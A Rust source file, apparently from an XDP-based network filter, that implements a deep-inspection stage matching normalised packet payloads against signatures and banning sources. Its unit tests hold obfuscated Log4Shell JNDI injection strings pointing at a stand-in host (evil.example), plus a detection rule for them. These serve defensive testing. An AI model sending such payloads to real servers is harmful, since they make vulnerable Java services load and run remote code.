//! Deep inspection: the agent's half of the signature stage.
//!
//! The XDP program sends, rate-limited, the first bytes of the packets it
//! could not decide on its own to the `SIG_EVENTS` ring buffer: those with
//! candidate rules that did not drop them, those with a hint pattern
//! (`${`, `%24%7b`...) and those it ran out of budget on
//! (`filter_common::maps::SigEvent`). Each record is normalised
//! ([`normalise_request`]: repeated percent-decoding, case folding, Log4j
//! lookup collapsing) and matched against every signature in force, on the
//! normalised bytes and on the raw ones (a match on either counts), in rule
//! order up to the first enforcing match, as the kernel does.
//!
//! An enforcing match of a rule with `edgefilter_ban` bans the source in
//! `BANS` (or extends its ban) and sets `CONFIG[0].bans`, so the program
//! drops what the source sends next. The packet itself has passed already.
//! Other matches (alert rules, dry-run orders) are only counted and
//! logged. Every hit is logged, at most [`LOG_LINES_PER_SECOND`] lines a
//! second, with the sid, the addresses and a hex excerpt around the match.
//!
//! Each event is counted once by outcome ([`Outcome`]): `banned` (a ban
//! was installed or extended), `matched` (some rule matched, no ban),
//! `clean` and `malformed` (the record could not be read).
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, RwLock};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use aya::maps::{Array, MapData, RingBuf};
use filter_common::maps::{ActiveConfig, Ban, BanKey, SigEvent, SIG_EVENT_BYTES, SIG_EV_CANDIDATE, SIG_EV_HINT, SIG_EV_UNDECIDED};
use filter_common::rules::{RuleSet, SignatureRule};
use filter_common::signatures::kernel::fast_pattern;
use filter_common::signatures::{http_regions, normalise_request, SigAction, Signature};

/// Hit log lines per second at most; the rest are counted and summed up
/// in one line.
pub const LOG_LINES_PER_SECOND: u32 = 10;

/// Records taken off the ring buffer before they are matched (in a
/// blocking thread, off the async workers).
const BATCH: usize = 256;

/// Bytes of the excerpt logged with a hit, and how many of them come
/// before the match.
const EXCERPT_LEN: usize = 48;
const EXCERPT_BEFORE: usize = 16;

/// What became of one deep-inspection event.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// Some signature matched; no ban was installed.
    Matched,
    /// No signature matched.
    Clean,
    /// The record could not be read.
    Malformed,
    /// An enforcing signature matched and its source is banned.
    Banned,
}

impl Outcome {
    pub const ALL: [Outcome; 4] = [Outcome::Matched, Outcome::Clean, Outcome::Malformed, Outcome::Banned];

    pub fn name(self) -> &'static str {
        match self {
            Outcome::Matched => "matched",
            Outcome::Clean => "clean",
            Outcome::Malformed => "malformed",
            Outcome::Banned => "banned",
        }
    }
}

/// One record of `SIG_EVENTS`, read.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Event<'a> {
    pub src: IpAddr,
    pub dst: IpAddr,
    pub src_port: u16,
    pub dst_port: u16,
    /// IP protocol number (6 or 17).
    pub proto: u8,
    /// `SIG_EV_*`.
    pub kind: u8,
    /// The payload length in the packet (`payload` holds its start).
    pub payload_len: u32,
    pub payload: &'a [u8],
    /// The `BANS` key of the source, as the program builds it.
    pub ban_key: BanKey,
}

/// Reads a ring buffer record: a [`SigEvent`] header, then `captured`
/// payload bytes (the record may be longer: the program rounds its size).
pub fn parse_event(record: &[u8]) -> Result<Event<'_>, &'static str> {
    const HEADER: usize = std::mem::size_of::<SigEvent>();
    if record.len() < HEADER {
        return Err("shorter than its header");
    }
    // SAFETY: `record` holds at least a header; SigEvent is plain integers
    // (any bit pattern is a value) and is read unaligned.
    let h: SigEvent = unsafe { std::ptr::read_unaligned(record.as_ptr().cast()) };
    let captured = h.captured as usize;
    if captured == 0 || captured > SIG_EVENT_BYTES as usize || captured > record.len() - HEADER {
        return Err("captured length out of range");
    }
    if h.payload_len < h.captured {
        return Err("captured more than the payload");
    }
    if h.v6 > 1 {
        return Err("unknown address family");
    }
    if !matches!(h.proto, 6 | 17) {
        return Err("neither TCP nor UDP");
    }
    let addr = |a: [u8; 16]| if h.v6 == 1 { IpAddr::from(a) } else { IpAddr::from([a[0], a[1], a[2], a[3]]) };
    Ok(Event {
        src: addr(h.src),
        dst: addr(h.dst),
        src_port: h.src_port,
        dst_port: h.dst_port,
        proto: h.proto,
        kind: h.kind,
        payload_len: h.payload_len,
        payload: &record[HEADER..HEADER + captured],
        ban_key: BanKey { addr: h.src, v6: h.v6, _pad: [0; 3] },
    })
}

/// Why the program sent the event.
pub fn kind_name(kind: u8) -> &'static str {
    match kind {
        SIG_EV_CANDIDATE => "candidate",
        SIG_EV_HINT => "hint",
        SIG_EV_UNDECIDED => "undecided",
        _ => "unknown",
    }
}

/// When a ban of `seconds` from `now_ns` lapses; an existing ban that
/// lasts longer is kept (a ban is extended, never shortened).
pub fn ban_expiry(now_ns: u64, seconds: u32, existing: Option<u64>) -> u64 {
    let new = now_ns.saturating_add(u64::from(seconds).saturating_mul(1_000_000_000));
    existing.map_or(new, |e| e.max(new))
}

/// `CLOCK_MONOTONIC` in nanoseconds: the clock of `bpf_ktime_get_ns`, which
/// `Ban::expires_ns` is in.
pub fn monotonic_ns() -> u64 {
    let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: clock_gettime into a valid timespec.
    unsafe { libc::clock_gettime(libc::CLOCK_MONOTONIC, &mut ts) };
    ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
}

/// At most `per_second` lines in each one-second window; the lines left
/// out are counted and reported when the next window opens.
#[derive(Debug)]
pub struct LogLimiter {
    per_second: u32,
    window: Option<Instant>,
    in_window: u32,
    suppressed: u64,
}

impl LogLimiter {
    pub fn new(per_second: u32) -> Self {
        LogLimiter { per_second, window: None, in_window: 0, suppressed: 0 }
    }

    /// Whether a line may be logged at `now`, and the number of lines
    /// suppressed in the window that just closed (to report first).
    pub fn admit(&mut self, now: Instant) -> (bool, Option<u64>) {
        let summary = self.roll(now);
        if self.in_window < self.per_second {
            self.in_window += 1;
            (true, summary)
        } else {
            self.suppressed += 1;
            (false, summary)
        }
    }

    /// The lines suppressed in a window that has closed by `now` (call
    /// periodically, so a burst's tail is reported when the hits stop).
    pub fn flush(&mut self, now: Instant) -> Option<u64> {
        self.roll(now)
    }

    fn roll(&mut self, now: Instant) -> Option<u64> {
        match self.window {
            Some(start) if now.saturating_duration_since(start) < Duration::from_secs(1) => None,
            _ => {
                self.window = Some(now);
                self.in_window = 0;
                let n = std::mem::take(&mut self.suppressed);
                (n > 0).then_some(n)
            }
        }
    }
}

/// A signature in force, with what its log lines and metrics name it by.
#[derive(Clone, Debug)]
pub struct InspectRule {
    pub rule_id: u32,
    pub sig: Arc<Signature>,
    pub enforce: bool,
    /// The pack (file stem) it came from.
    pub pack: String,
    /// [`action_name`].
    pub action: &'static str,
}

/// The signatures deep inspection matches, as of the last apply.
#[derive(Clone, Debug, Default)]
pub struct InspectRules {
    pub rules: Vec<InspectRule>,
    pub http_ports: Vec<u16>,
}

/// The pack of a signature order (`signatures:<pack>`).
pub fn pack_name(order_id: &str) -> &str {
    order_id.strip_prefix("signatures:").unwrap_or(order_id)
}

/// What a signature in force does on a match: `drop` (drops, and may
/// ban), `alert` (an alert rule: counts), `dry-run` (a drop rule of a
/// dry-run order: counts what it would drop).
pub fn action_name(r: &SignatureRule) -> &'static str {
    if r.enforce {
        "drop"
    } else if r.sig.action == SigAction::Alert {
        "alert"
    } else {
        "dry-run"
    }
}

impl InspectRules {
    pub fn new(rules: &RuleSet) -> Self {
        InspectRules {
            rules: rules
                .signatures
                .iter()
                .map(|r| InspectRule {
                    rule_id: r.rule_id,
                    sig: r.sig.clone(),
                    enforce: r.enforce,
                    pack: rules.rule(r.rule_id).map_or_else(String::new, |info| pack_name(&info.order_id).to_string()),
                    action: action_name(r),
                })
                .collect(),
            http_ports: rules.settings.http_ports.clone(),
        }
    }
}

/// A signature that matched an event.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// Index in [`InspectRules::rules`].
    pub rule: usize,
    /// Matched on the normalised payload (else on the raw one).
    pub normalised: bool,
    /// Where the rule's fast pattern is in the payload it matched.
    pub at: usize,
}

/// The outcome of matching one event.
#[derive(Clone, Debug, Default)]
pub struct Inspection {
    pub normalised: Vec<u8>,
    /// In rule order, up to the first enforcing one.
    pub hits: Vec<Hit>,
}

impl Inspection {
    /// The first enforcing hit (the one that may ban).
    pub fn enforcing<'r>(&self, rules: &'r InspectRules) -> Option<&'r InspectRule> {
        self.hits.iter().map(|h| &rules.rules[h.rule]).find(|r| r.enforce)
    }
}

/// Matches every signature in force against the event's payload, raw and
/// normalised, in rule order up to the first enforcing match.
pub fn inspect(rules: &InspectRules, ev: &Event) -> Inspection {
    let (normalised, regions) = normalise_request(ev.payload);
    let raw_regions = http_regions(ev.payload);
    let mut hits = Vec::new();
    for (i, r) in rules.rules.iter().enumerate() {
        if !r.sig.matches_header(ev.proto, ev.src, ev.src_port, ev.dst, ev.dst_port, &rules.http_ports) {
            continue;
        }
        let normalised_hit = r.sig.matches_payload(&normalised, regions.as_ref());
        if !normalised_hit && !r.sig.matches_payload(ev.payload, raw_regions.as_ref()) {
            continue;
        }
        let data: &[u8] = if normalised_hit { &normalised } else { ev.payload };
        let fast = fast_pattern(&r.sig);
        hits.push(Hit { rule: i, normalised: normalised_hit, at: find(data, &fast.bytes, fast.nocase).unwrap_or(0) });
        if r.enforce {
            break;
        }
    }
    Inspection { normalised, hits }
}

fn find(data: &[u8], pattern: &[u8], nocase: bool) -> Option<usize> {
    if pattern.is_empty() || pattern.len() > data.len() {
        return None;
    }
    data.windows(pattern.len()).position(|w| if nocase { w.eq_ignore_ascii_case(pattern) } else { w == pattern })
}

/// `@offset: hex |ascii|` of the bytes around `at` (non-printable bytes
/// shown as `.`).
pub fn excerpt(data: &[u8], at: usize) -> String {
    let start = at.min(data.len()).saturating_sub(EXCERPT_BEFORE);
    let end = (start + EXCERPT_LEN).min(data.len());
    let bytes = &data[start..end];
    let mut out = format!("@{start}:");
    for b in bytes {
        let _ = write!(out, " {b:02x}");
    }
    out.push_str(" |");
    out.extend(bytes.iter().map(|&b| if (0x20..0x7f).contains(&b) { b as char } else { '.' }));
    out.push('|');
    out
}

/// The deep-inspection state the agent shares with the reader task: the
/// rules in force (swapped at every apply), the counters, the log limiter
/// and its own handles on `BANS` and `CONFIG`.
pub struct Inspector {
    rules: RwLock<Arc<InspectRules>>,
    outcomes: [AtomicU64; 4],
    /// Deep-inspection hits per (pack, sid, action).
    hits: Mutex<BTreeMap<(String, u32, &'static str), u64>>,
    log: Mutex<LogLimiter>,
    bans: Option<Mutex<aya::maps::HashMap<MapData, BanKey, Ban>>>,
    /// Read only: whether `CONFIG[0].bans` must be set after a ban.
    config: Option<Mutex<Array<MapData, ActiveConfig>>>,
}

impl Inspector {
    /// `bans` and `config`: handles of the inspector's own (see
    /// [`crate::dataplane::Dataplane::bans_handle`]); without them matches
    /// are counted and logged but ban nothing.
    pub fn new(bans: Option<aya::maps::HashMap<MapData, BanKey, Ban>>, config: Option<Array<MapData, ActiveConfig>>) -> Self {
        Inspector {
            rules: RwLock::new(Arc::new(InspectRules::default())),
            outcomes: Default::default(),
            hits: Mutex::new(BTreeMap::new()),
            log: Mutex::new(LogLimiter::new(LOG_LINES_PER_SECOND)),
            bans: bans.map(Mutex::new),
            config: config.map(Mutex::new),
        }
    }

    /// Makes `rules` the set events are matched against.
    pub fn set_rules(&self, rules: &RuleSet) {
        *self.rules.write().expect("inspection rules lock") = Arc::new(InspectRules::new(rules));
    }

    pub fn rules(&self) -> Arc<InspectRules> {
        self.rules.read().expect("inspection rules lock").clone()
    }

    /// Events by outcome, in [`Outcome::ALL`] order.
    pub fn outcomes(&self) -> Vec<(&'static str, u64)> {
        Outcome::ALL.iter().map(|o| (o.name(), self.outcomes[*o as usize].load(Ordering::Relaxed))).collect()
    }

    /// Deep-inspection hits per (pack, sid, action) since the agent started.
    pub fn hits(&self) -> BTreeMap<(String, u32, &'static str), u64> {
        self.hits.lock().expect("inspection hits lock").clone()
    }

    /// Inspects one record; returns its outcome and whether a ban was
    /// installed while `CONFIG[0].bans` was clear (the caller must then set
    /// it, under the agent's lock).
    pub fn process(&self, record: &[u8], now_ns: u64) -> (Outcome, bool) {
        let (outcome, flag) = self.process_inner(record, now_ns);
        self.outcomes[outcome as usize].fetch_add(1, Ordering::Relaxed);
        (outcome, flag)
    }

    fn process_inner(&self, record: &[u8], now_ns: u64) -> (Outcome, bool) {
        let ev = match parse_event(record) {
            Ok(ev) => ev,
            Err(why) => {
                self.log(|| format!("deep inspection: malformed event ({} bytes): {why}", record.len()));
                return (Outcome::Malformed, false);
            }
        };
        let rules = self.rules();
        let inspection = inspect(&rules, &ev);
        if inspection.hits.is_empty() {
            return (Outcome::Clean, false);
        }
        {
            let mut hits = self.hits.lock().expect("inspection hits lock");
            for h in &inspection.hits {
                let r = &rules.rules[h.rule];
                *hits.entry((r.pack.clone(), r.sig.sid, r.action)).or_default() += 1;
            }
        }
        let mut outcome = Outcome::Matched;
        let mut flag = false;
        // What the enforcing hit's log line says about the ban.
        let mut ban_note = String::new();
        if let Some(r) = inspection.enforcing(&rules) {
            if let Some(seconds) = r.sig.ban_seconds.filter(|&s| s > 0) {
                match self.ban(&ev.ban_key, r.rule_id, seconds, now_ns) {
                    Ok(needs_flag) => {
                        outcome = Outcome::Banned;
                        flag = needs_flag;
                        ban_note = format!(", source banned for {seconds} s");
                    }
                    Err(e) => ban_note = format!(", BAN FAILED: {e:#}"),
                }
            }
        }
        for h in &inspection.hits {
            let r = &rules.rules[h.rule];
            let ban = if r.enforce { ban_note.as_str() } else { "" };
            let data: &[u8] = if h.normalised { &inspection.normalised } else { ev.payload };
            self.log(|| {
                format!(
                    "deep inspection: sid {} {:?} ({} {}{ban}) {} -> {} {} ({} event, {} payload bytes), {} {}",
                    r.sig.sid,
                    r.sig.msg,
                    r.pack,
                    r.action,
                    SocketAddr::new(ev.src, ev.src_port),
                    SocketAddr::new(ev.dst, ev.dst_port),
                    if ev.proto == 6 { "tcp" } else { "udp" },
                    kind_name(ev.kind),
                    ev.payload_len,
                    if h.normalised { "normalised" } else { "raw" },
                    excerpt(data, h.at)
                )
            });
        }
        (outcome, flag)
    }

    /// Bans (or extends the ban of) a source; returns whether
    /// `CONFIG[0].bans` was clear afterwards.
    fn ban(&self, key: &BanKey, rule_id: u32, seconds: u32, now_ns: u64) -> Result<bool> {
        let bans = self.bans.as_ref().context("no BANS map")?;
        {
            let mut bans = bans.lock().expect("bans lock");
            let existing = bans.get(key, 0).ok().map(|b| b.expires_ns);
            let expires_ns = ban_expiry(now_ns, seconds, existing);
            if existing != Some(expires_ns) {
                bans.insert(key, Ban { expires_ns, rule_id, _pad: 0 }, 0).context("inserting into BANS")?;
            }
        }
        // Read after the insert: the sweep clears the flag only before it
        // looks at the map a last time, so a clear flag seen now may
        // predate this ban and must be set again.
        let config = self.config.as_ref().context("no CONFIG map")?;
        let c = config.lock().expect("config lock").get(&0, 0).context("reading CONFIG")?;
        Ok(c.bans == 0)
    }

    /// Logs a line within the rate (`line` is built only if logged).
    fn log(&self, line: impl FnOnce() -> String) {
        let (admit, summary) = self.log.lock().expect("log limiter lock").admit(Instant::now());
        if let Some(n) = summary {
            eprintln!("deep inspection: {n} log lines suppressed");
        }
        if admit {
            eprintln!("{}", line());
        }
    }

    /// Reports the lines suppressed in a window that has closed.
    pub fn flush_log(&self) {
        if let Some(n) = self.log.lock().expect("log limiter lock").flush(Instant::now()) {
            eprintln!("deep inspection: {n} log lines suppressed");
        }
    }
}

/// Reads `SIG_EVENTS` until the agent stops: waits for records, takes up
/// to a batch off the ring and inspects it on a blocking thread. When a
/// ban went in while `CONFIG[0].bans` was clear, `set_flag` sets it (it
/// takes the agent's lock, which serialises it with generation switches).
pub async fn read_events(inspector: Arc<Inspector>, ring: RingBuf<MapData>, set_flag: Arc<dyn Fn() + Send + Sync>) {
    use tokio::io::{unix::AsyncFd, Interest};
    // SAFETY: the ring buffer owns its map's descriptor, open (and the same)
    // for as long as it lives, and it lives inside the AsyncFd.
    let mut ring = match unsafe { AsyncFd::register_with_interest(ring, Interest::READABLE) } {
        Ok(fd) => fd,
        Err(e) => {
            eprintln!("error: deep inspection is off: polling the {} ring buffer: {e}", filter_common::maps::names::SIG_EVENTS);
            return;
        }
    };
    let mut flush = tokio::time::interval(Duration::from_secs(1));
    loop {
        let batch = tokio::select! {
            guard = ring.readable_mut() => {
                let mut guard = match guard {
                    Ok(g) => g,
                    Err(e) => {
                        eprintln!("error: deep inspection stopped: polling the ring buffer: {e}");
                        return;
                    }
                };
                let mut batch = Vec::new();
                while batch.len() < BATCH {
                    match guard.get_inner_mut().next() {
                        Some(item) => batch.push(item.to_vec()),
                        None => break,
                    }
                }
                if batch.len() < BATCH {
                    // Drained: wait for the next wakeup. (A full batch keeps
                    // the readiness, so the loop comes straight back.)
                    guard.clear_ready();
                }
                batch
            }
            _ = flush.tick() => {
                inspector.flush_log();
                continue;
            }
        };
        if batch.is_empty() {
            continue;
        }
        let inspector = inspector.clone();
        let set_flag = set_flag.clone();
        let _ = tokio::task::spawn_blocking(move || {
            let now_ns = monotonic_ns();
            let mut flag = false;
            for record in &batch {
                flag |= inspector.process(record, now_ns).1;
            }
            if flag {
                set_flag();
            }
        })
        .await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;
    use std::path::Path;

    fn record(ev: SigEvent, payload: &[u8]) -> Vec<u8> {
        let mut out = vec![0u8; std::mem::size_of::<SigEvent>()];
        // SAFETY: writing a plain-integer struct into a buffer its size.
        unsafe { std::ptr::write_unaligned(out.as_mut_ptr().cast(), ev) };
        out.extend_from_slice(payload);
        out
    }

    fn header(payload: &[u8]) -> SigEvent {
        let mut src = [0u8; 16];
        src[..4].copy_from_slice(&[203, 0, 113, 7]);
        let mut dst = [0u8; 16];
        dst[..4].copy_from_slice(&[192, 0, 2, 80]);
        SigEvent {
            src,
            dst,
            src_port: 40000,
            dst_port: 80,
            kind: SIG_EV_HINT,
            v6: 0,
            proto: 6,
            _pad: 0,
            payload_len: payload.len() as u32,
            captured: payload.len() as u32,
        }
    }

    fn rules(text: &str, enforce: bool) -> InspectRules {
        let vars: HashMap<String, String> = [("HOME_NET".to_string(), "192.0.2.0/24".to_string()), ("EXTERNAL_NET".to_string(), "!$HOME_NET".to_string())].into();
        let pack = filter_common::signatures::parse_pack(Path::new("test.rules"), text, &vars, false).expect("pack parses");
        InspectRules {
            rules: pack
                .rules
                .into_iter()
                .enumerate()
                .map(|(i, sig)| InspectRule {
                    rule_id: i as u32 + 1,
                    enforce: enforce && sig.action == SigAction::Drop,
                    action: if enforce { "drop" } else { "dry-run" },
                    sig: Arc::new(sig),
                    pack: "test".into(),
                })
                .collect(),
            http_ports: vec![80],
        }
    }

    const LOG4SHELL: &str = "drop tcp $EXTERNAL_NET any -> $HOME_NET any (msg:\"jndi ldap\"; content:\"${jndi:ldap\"; nocase; metadata: edgefilter_ban 600; sid:9000101; rev:1;)\n\
        alert http any any -> any any (msg:\"raw marker\"; content:\"X-Raw: ABC\"; sid:9000900; rev:1;)\n";

    #[test]
    fn events_are_parsed() {
        let payload = b"GET / HTTP/1.1\r\n\r\n";
        let rec = record(header(payload), payload);
        let ev = parse_event(&rec).unwrap();
        assert_eq!(ev.src, "203.0.113.7".parse::<IpAddr>().unwrap());
        assert_eq!(ev.dst, "192.0.2.80".parse::<IpAddr>().unwrap());
        assert_eq!((ev.src_port, ev.dst_port, ev.proto, ev.kind), (40000, 80, 6, SIG_EV_HINT));
        assert_eq!(ev.payload, payload);
        assert_eq!(&ev.ban_key.addr[..4], &[203, 0, 113, 7]);
        assert_eq!(ev.ban_key.v6, 0);
        // The program rounds the record size up: trailing bytes are not payload.
        let mut longer = rec.clone();
        longer.extend_from_slice(&[0xaa; 13]);
        assert_eq!(parse_event(&longer).unwrap().payload, payload);

        let mut h = header(payload);
        h.v6 = 1;
        h.src = "2001:db8::7".parse::<std::net::Ipv6Addr>().unwrap().octets();
        let rec6 = record(h, payload);
        let ev = parse_event(&rec6).unwrap();
        assert_eq!(ev.src, "2001:db8::7".parse::<IpAddr>().unwrap());
        assert_eq!(ev.ban_key.addr, h.src);
        assert_eq!(ev.ban_key.v6, 1);
    }

    #[test]
    fn malformed_events_are_refused() {
        let payload = b"abc";
        assert!(parse_event(&[0u8; 10]).is_err());
        let mut h = header(payload);
        h.captured = 4;
        assert!(parse_event(&record(h, payload)).is_err(), "captured beyond the record");
        h.captured = 0;
        assert!(parse_event(&record(h, payload)).is_err(), "nothing captured");
        let mut h = header(payload);
        h.payload_len = 2;
        assert!(parse_event(&record(h, payload)).is_err(), "captured more than the payload");
        let mut h = header(payload);
        h.proto = 1;
        assert!(parse_event(&record(h, payload)).is_err(), "ICMP");
        let mut h = header(payload);
        h.v6 = 2;
        assert!(parse_event(&record(h, payload)).is_err());
        let big = vec![b'a'; SIG_EVENT_BYTES as usize + 1];
        assert!(parse_event(&record(header(&big), &big)).is_err(), "more than the program captures");
    }

    #[test]
    fn ban_expiry_extends_never_shortens() {
        assert_eq!(ban_expiry(5_000_000_000, 600, None), 605_000_000_000);
        assert_eq!(ban_expiry(5_000_000_000, 600, Some(1_000_000_000)), 605_000_000_000, "a lapsed ban is renewed");
        assert_eq!(ban_expiry(5_000_000_000, 1, Some(700_000_000_000)), 700_000_000_000, "a longer ban stays");
        assert_eq!(ban_expiry(u64::MAX - 5, 600, None), u64::MAX);
        let now = monotonic_ns();
        assert!(now > 0 && monotonic_ns() >= now);
    }

    #[test]
    fn log_limiter_admits_a_rate_and_counts_the_rest() {
        let t0 = Instant::now();
        let mut l = LogLimiter::new(3);
        let admitted: Vec<(bool, Option<u64>)> = (0..5).map(|_| l.admit(t0)).collect();
        assert_eq!(admitted, [(true, None), (true, None), (true, None), (false, None), (false, None)]);
        assert_eq!(l.flush(t0 + Duration::from_millis(999)), None, "the window is still open");
        // The next window reports the two left out, then admits again.
        assert_eq!(l.admit(t0 + Duration::from_millis(1000)), (true, Some(2)));
        assert_eq!(l.admit(t0 + Duration::from_millis(1500)), (true, None));
        assert_eq!(l.admit(t0 + Duration::from_millis(1500)), (true, None));
        assert_eq!(l.admit(t0 + Duration::from_millis(1500)), (false, None));
        assert_eq!(l.flush(t0 + Duration::from_millis(2100)), Some(1), "the tail is reported when hits stop");
        assert_eq!(l.flush(t0 + Duration::from_millis(3200)), None);
    }

    #[test]
    fn obfuscated_log4shell_matches_after_normalising() {
        let rules = rules(LOG4SHELL, true);
        let payload = b"GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3A%24%7B%3A%3A-l%7Ddap%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${${env:NaN:-j}ndi:${lower:L}dap://evil.example/b}\r\n\r\n";
        let rec = record(header(payload), payload);
        let ev = parse_event(&rec).unwrap();
        let got = inspect(&rules, &ev);
        assert_eq!(got.hits.len(), 1, "{got:?}");
        assert!(got.hits[0].normalised);
        assert_eq!(got.enforcing(&rules).unwrap().sig.sid, 9000101);
        let at = got.hits[0].at;
        assert_eq!(&got.normalised[at..at + 11], b"${jndi:ldap");
        assert!(excerpt(&got.normalised, at).contains("x=${jndi:ldap://evil.example/a} http"), "{}", excerpt(&got.normalised, at));

        // The rule's header: a source inside HOME_NET is not matched.
        let mut h = header(payload);
        h.src[..4].copy_from_slice(&[192, 0, 2, 9]);
        let rec = record(h, payload);
        assert!(inspect(&rules, &parse_event(&rec).unwrap()).hits.is_empty());

        // Clean traffic.
        let clean = b"GET /index.html?q=%7Bcurly%7D HTTP/1.1\r\nHost: victim\r\n\r\n";
        let rec = record(header(clean), clean);
        assert!(inspect(&rules, &parse_event(&rec).unwrap()).hits.is_empty());
    }

    #[test]
    fn raw_matches_count_and_non_enforcing_rules_do_not_ban() {
        // Case-sensitive content: lost by case folding, found raw.
        let rules = rules(LOG4SHELL, false);
        let payload = b"GET / HTTP/1.1\r\nHost: v\r\nX-Raw: ABC\r\nX: ${jndi:ldap://e/a}\r\n\r\n";
        let rec = record(header(payload), payload);
        let got = inspect(&rules, &parse_event(&rec).unwrap());
        let sids: Vec<(u32, bool)> = got.hits.iter().map(|h| (rules.rules[h.rule].sig.sid, h.normalised)).collect();
        assert_eq!(sids, [(9000101, true), (9000900, false)]);
        assert!(got.enforcing(&rules).is_none(), "a dry run bans nothing");

        let inspector = Inspector::new(None, None);
        *inspector.rules.write().unwrap() = Arc::new(rules);
        assert_eq!(inspector.process(&rec, 1), (Outcome::Matched, false));
        assert_eq!(inspector.process(&[1, 2, 3], 1), (Outcome::Malformed, false));
        let clean = b"GET / HTTP/1.1\r\n\r\n";
        assert_eq!(inspector.process(&record(header(clean), clean), 1), (Outcome::Clean, false));
        assert_eq!(inspector.outcomes(), [("matched", 1), ("clean", 1), ("malformed", 1), ("banned", 0)]);
        let hits = inspector.hits();
        assert_eq!(hits.get(&("test".to_string(), 9000101, "dry-run")), Some(&1));
        assert_eq!(hits.get(&("test".to_string(), 9000900, "dry-run")), Some(&1));
    }

    #[test]
    fn an_enforcing_match_without_maps_is_only_counted() {
        let rules = rules(LOG4SHELL, true);
        let payload = b"GET /${${lower:j}ndi:ldap://e/a} HTTP/1.1\r\n\r\n";
        let inspector = Inspector::new(None, None);
        *inspector.rules.write().unwrap() = Arc::new(rules);
        assert_eq!(inspector.process(&record(header(payload), payload), 1), (Outcome::Matched, false));
    }

    #[test]
    fn excerpts_are_hex_and_ascii() {
        assert_eq!(excerpt(b"ab\x00c", 2), "@0: 61 62 00 63 |ab.c|");
        let data: Vec<u8> = (0..100u8).collect();
        let e = excerpt(&data, 50);
        assert!(e.starts_with("@34: 22 23"), "{e}");
        assert_eq!(e.split(' ').count(), 1 + EXCERPT_LEN + 1);
        assert_eq!(excerpt(b"", 0), "@0: ||");
    }

    #[test]
    fn packs_and_actions_are_named() {
        assert_eq!(pack_name("signatures:log4shell"), "log4shell");
        assert_eq!(pack_name("other"), "other");
        assert_eq!(kind_name(SIG_EV_UNDECIDED), "undecided");
        assert_eq!(kind_name(0), "unknown");
    }
}
